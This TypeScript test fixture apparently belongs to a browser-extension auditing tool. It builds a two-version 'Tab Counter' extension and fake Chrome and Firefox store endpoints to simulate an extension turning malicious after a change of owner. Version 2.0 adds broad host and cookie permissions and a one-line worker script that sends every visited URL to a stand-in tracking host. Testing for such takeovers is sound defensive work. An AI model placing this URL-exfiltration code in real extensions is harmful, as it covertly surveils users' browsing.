import { createHash } from 'node:crypto';
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { zipSync } from 'fflate';
import { makeSigner, packCrx } from './crx.ts';
import { bytes, json, redirect } from './world.ts';
import type { Handler } from './world.ts';

/*
 * A small extension of our own, in two versions, and the stores that hand out whichever is current: as if somebody
 * had bought it and changed what it does.
 */

export const NAME = 'Tab Counter';
const GUID = 'tab-counter@touchstone.example';
const HARMLESS = 'chrome.tabs.query({}, (tabs) => chrome.storage.local.set({ count: tabs.length }));\n';
const SPY =
  "chrome.tabs.onUpdated.addListener((id, change, tab) => { fetch('https://stats.counter.example/seen?u=' + encodeURIComponent(tab.url)); });\n";

/** The same bytes whenever they are asked for: the store names their hash in another answer. */
const pack = (files: Record<string, Uint8Array>) => zipSync(files, { mtime: new Date(2026, 0, 1) });

export interface OwnStore {
  /** The id in Chrome's store and in Firefox. */
  readonly chromeId: string;
  readonly firefoxId: string;
  readonly hosts: Record<string, Handler>;
  /** What the stores hand out from now on. */
  publish(version: '1.0' | '2.0'): void;
  /** The version unpacked, with the key that gives it its id in the store. */
  folder(version: '1.0' | '2.0'): string;
  /** The version as a file for Firefox. */
  xpi(version: '1.0' | '2.0'): string;
}

export function ownStore(temporary: string): OwnStore {
  const signer = makeSigner();
  let current: '1.0' | '2.0' = '1.0';
  const crxPath = `/crx/blobs/Own/${signer.id.toUpperCase()}.crx`;

  function files(version: string, firefox: boolean): Record<string, Uint8Array> {
    const wide = version === '2.0';
    const hosts = wide ? ['<all_urls>'] : [];
    const permissions = wide ? ['tabs', 'storage', 'cookies'] : ['tabs', 'storage'];
    const manifest = firefox
      ? {
          manifest_version: 2,
          permissions: [...permissions, ...hosts],
          background: { scripts: ['worker.js'] },
          browser_specific_settings: { gecko: { id: GUID } },
        }
      : {
          manifest_version: 3,
          permissions,
          host_permissions: hosts,
          background: { service_worker: 'worker.js' },
          key: signer.publicKey.toString('base64'),
        };
    const text = (content: string) => new TextEncoder().encode(content);
    return {
      'manifest.json': text(JSON.stringify({ name: NAME, version, icons: { 48: 'icon.png' }, ...manifest }, null, 2)),
      'icon.png': readFileSync(path.resolve(import.meta.dirname, '../../../public/icon/48.png')),
      'worker.js': text(wide ? SPY : HARMLESS),
    };
  }

  return {
    chromeId: signer.id,
    firefoxId: GUID,
    publish(version) {
      current = version;
    },
    hosts: {
      'clients2.google.com': (_request, response) =>
        redirect(response, `https://clients2.googleusercontent.com${crxPath}`),
      'clients2.googleusercontent.com': (_request, response) =>
        bytes(response, packCrx(pack(files(current, false)), signer), 'application/x-chrome-extension'),
      'addons.mozilla.org'(_request, response, url) {
        const file = pack(files(current, true));
        response.setHeader('access-control-allow-origin', '*');
        if (url.pathname.endsWith('.xpi')) return bytes(response, file, 'application/x-xpinstall');
        const hash = `sha256:${createHash('sha256').update(file).digest('hex')}`;
        const address = `https://addons.mozilla.org/firefox/downloads/file/1/tab_counter-${current}.xpi`;
        return json(response, 200, { guid: GUID, current_version: { version: current, file: { url: address, hash } } });
      },
    },
    folder(version) {
      const folder = path.join(temporary, `tab-counter-${version}`);
      mkdirSync(folder, { recursive: true });
      for (const [name, content] of Object.entries(files(version, false)))
        writeFileSync(path.join(folder, name), content);
      return folder;
    },
    xpi(version) {
      const file = path.join(temporary, `tab-counter-${version}.xpi`);
      writeFileSync(file, pack(files(version, true)));
      return file;
    },
  };
}
